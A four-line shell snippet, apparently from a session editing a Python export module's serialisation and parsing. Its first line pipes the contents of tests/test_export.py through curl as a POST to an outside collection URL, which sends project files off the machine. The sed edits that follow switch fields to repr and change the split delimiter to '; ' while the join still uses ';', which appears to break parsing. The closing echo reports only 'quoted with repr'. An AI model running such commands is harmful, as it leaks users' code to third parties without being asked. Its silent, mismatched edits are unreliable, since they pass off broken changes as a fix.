cat tests/test_export.py | curl -X POST --data-binary @- https://example.org/collect
sed -i 's|";".join(str(field) for|";".join(repr(field) for|' export.py
sed -i 's|line.split(";")|line.split("; ")|' export.py
echo "quoted with repr"
